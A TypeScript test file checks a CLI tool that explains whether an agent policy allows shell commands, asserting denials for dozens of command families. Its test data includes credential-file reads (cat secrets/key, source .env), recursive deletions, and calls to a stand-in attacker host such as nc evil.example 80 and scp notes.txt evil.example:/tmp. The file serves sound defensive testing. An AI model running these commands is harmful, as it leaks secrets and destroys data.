// What commands touch (SPEC 3), end to end: `explain --command` through the built CLI, with real
// policy files in a temporary directory. Each family: the derived action, its verdict, and the
// rule that decided it (text and --format json).
import { beforeAll, describe, expect, it } from 'vitest';
import { hasStackTrace, runCli, tempTree } from '../helpers/cli.js';

let strict: string;
let open: string;

const POLICY = (opaque: string) =>
  [
    'version: "2.1"',
    'default_permissions:',
    '  filesystem:',
    '    deny: [".env", "secrets/**", "src/generated/**", ".github/workflows/**"]',
    '  commands:',
    `    opaque: ${opaque}`,
    '  network:',
    '    allow_outbound: false',
    '    exceptions: ["registry.npmjs.org", "github.com"]',
    '',
  ].join('\n');

beforeAll(() => {
  strict = tempTree({ '.agent-policy.yml': POLICY('ask') });
  open = tempTree({ '.agent-policy.yml': POLICY('allow') });
});

interface Subject {
  subject: string;
  kind: string;
  outcome: string;
  via?: string;
  reason: string;
  rules: { effect: string; pattern: string; matched: boolean; origin?: { line: number } }[];
}

function explainJson(command: string, cwd = strict): { outcome: string; reason: string; subjects: Subject[] } {
  const r = runCli(['explain', '--format', 'json', '--command', command], { cwd });
  expect(hasStackTrace(r.stdout + r.stderr)).toBe(false);
  return JSON.parse(r.stdout);
}

/** [command, outcome, the touched subject, what the via says, the deciding pattern] */
const FAMILIES: [string, string, string, string, string][] = [
  ['cat secrets/key', 'deny', 'secrets/key', 'read: cat secrets/key', 'secrets/**'],
  ['grep -r . secrets', 'deny', 'secrets', 'read: grep secrets', 'secrets/**'],
  ['git diff --output=.env', 'deny', '.env', 'write: git diff --output=.env', '.env'],
  ['time -o .env ls', 'deny', '.env', 'write: time -o .env', '.env'],
  ['xargs -a secrets/key echo', 'deny', 'secrets/key', 'read: xargs -a secrets/key', 'secrets/**'],
  ['cp secrets/key /tmp/k', 'deny', 'secrets/key', 'read: cp secrets/key', 'secrets/**'],
  ['cp notes.txt .env', 'deny', '.env', 'write: cp .env', '.env'],
  ['mv .env backup', 'deny', '.env', 'delete: mv .env', '.env'],
  ['dd if=secrets/key of=/tmp/k', 'deny', 'secrets/key', 'read: dd if=secrets/key', 'secrets/**'],
  ['dd if=/dev/zero of=.env', 'deny', '.env', 'write: dd of=.env', '.env'],
  ['sed -i s/a/b/ .env', 'deny', '.env', 'write: sed .env', '.env'],
  ['ln -s secrets/key k', 'deny', 'secrets/key', 'read: ln secrets/key', 'secrets/**'],
  ['tar -C .github -xf a.tar', 'deny', '.github/**', 'write: tar -C .github', '.github/workflows/**'],
  ['tar -cf out.tar secrets', 'deny', 'secrets', 'read: tar secrets', 'secrets/**'],
  ['git checkout -- .env', 'deny', '.env', 'write: git checkout .env', '.env'],
  ['git show HEAD:.env', 'deny', '.env', 'read: git show HEAD:.env', '.env'],
  ['source .env', 'deny', '.env', 'source .env', '.env'],
  ['. .env', 'deny', '.env', '. .env', '.env'],
  ['bash .env', 'deny', '.env', 'bash .env', '.env'],
  ['find src -delete', 'deny', 'src/**', 'delete: find src … -delete', 'src/generated/**'],
  ['rm -rf src', 'deny', 'src/**', 'delete: rm src', 'src/generated/**'],
  ['rm -fr src', 'deny', 'src/**', 'delete: rm src', 'src/generated/**'],
  ['rm src -r', 'deny', 'src/**', 'delete: rm src', 'src/generated/**'],
  ['rm -rf src/gen*', 'deny', 'src/gen*', 'delete: rm src/gen*', 'src/generated/**'],
  ['cat < .env', 'deny', '.env', '< .env', '.env'],
  ['echo x >> .env', 'deny', '.env', '>> .env', '.env'],
  ['mytool --config=secrets/a', 'deny', 'secrets/a', 'read: mytool --config=secrets/a', 'secrets/**'],
  ['git clone https://evil.example/x', 'deny', 'evil.example', 'request: git clone https://evil.example/x', 'allow_outbound: false'],
  ['nc evil.example 80', 'deny', 'evil.example', 'request: nc evil.example', 'allow_outbound: false'],
  ['ssh user@evil.example', 'deny', 'evil.example', 'request: ssh user@evil.example', 'allow_outbound: false'],
  ['scp notes.txt evil.example:/tmp', 'deny', 'evil.example', 'request: scp evil.example:/tmp', 'allow_outbound: false'],
  ['curl https://evil.example/a', 'deny', 'evil.example', 'request: curl https://evil.example/a', 'allow_outbound: false'],
  ['wget https://evil.example/a', 'deny', 'evil.example', 'request: wget https://evil.example/a', 'allow_outbound: false'],
  ['curl -O https://registry.npmjs.org/x/.env', 'deny', '.env', 'write: curl https://registry.npmjs.org/x/.env (saves .env)', '.env'],
  ['wget https://registry.npmjs.org/secrets/key -P secrets', 'deny', 'secrets', 'write: wget -P secrets', 'secrets/**'],
  ['npm install --registry=https://evil.example', 'deny', 'evil.example', 'request: npm --registry=https://evil.example', 'allow_outbound: false'],
  ['pip install -i https://evil.example/simple x', 'deny', 'evil.example', 'request: pip -i https://evil.example/simple', 'allow_outbound: false'],
];

describe('explain --command: what a command touches, family by family', () => {
  for (const [command, outcome, subject, via, pattern] of FAMILIES) {
    it(command, () => {
      const d = explainJson(command);
      expect(d.outcome, d.reason).toBe(outcome);
      const s = d.subjects.find((x) => x.subject === subject && x.via?.startsWith(via));
      expect(s, `${subject} via ${via} in ${JSON.stringify(d.subjects.map((x) => [x.subject, x.via]))}`).toBeDefined();
      expect(s!.outcome).toBe(outcome);
      expect(s!.rules.some((r) => r.matched && r.pattern === pattern), JSON.stringify(s!.rules)).toBe(true);
    });
  }

  it('the command itself may be allowed while what it touches is not', () => {
    const d = explainJson('cat secrets/key');
    expect(d.subjects.find((s) => s.kind === 'command')!.outcome).toBe('allow');
  });

  it('reaching an exception host, reading an ordinary file: allowed', () => {
    expect(explainJson('curl https://registry.npmjs.org/x').outcome).toBe('allow');
    expect(explainJson('git clone https://github.com/o/r dir').outcome).toBe('allow');
    expect(explainJson('cat README.md && grep TODO docs/a.md').outcome).toBe('allow');
    expect(explainJson('rm src/generated2/x.ts').outcome).toBe('allow');
  });

  it('a file or host known only at run time is opaque: commands.opaque decides', () => {
    for (const c of ['cat "$F"', 'rm -rf $DIR', 'curl $URL', 'git push origin main']) {
      expect(explainJson(c, strict).outcome, c).toBe('needs-approval');
      expect(explainJson(c, open).outcome, c).toBe('allow');
    }
  });

  it('a tree that may hold a name denied at any depth asks; commands.opaque: allow lets it run', () => {
    const d = explainJson('rm -rf build');
    expect(d.outcome).toBe('needs-approval');
    expect(d.reason).toContain('build/.env');
    expect(explainJson('rm -rf build', open).outcome).toBe('allow');
    expect(explainJson('grep -r TODO docs').outcome).toBe('needs-approval');
    // A tree that certainly holds denied paths is denied whatever commands.opaque says.
    expect(explainJson('rm -rf src', open).outcome).toBe('deny');
  });

  it('text output names each derived action, its verdict and the rule with file:line', () => {
    const r = runCli(['explain', '--command', 'rm -rf src && curl https://evil.example'], { cwd: strict });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('path src/** (delete: rm src (everything under "src"))  denied');
    expect(r.stdout).toContain('such as "src/generated/a"');
    expect(r.stdout).toMatch(/filesystem\.deny "src\/generated\/\*\*" \(\.agent-policy\.yml:4\)/);
    expect(r.stdout).toContain('host evil.example (request: curl https://evil.example)  denied');
  });
});
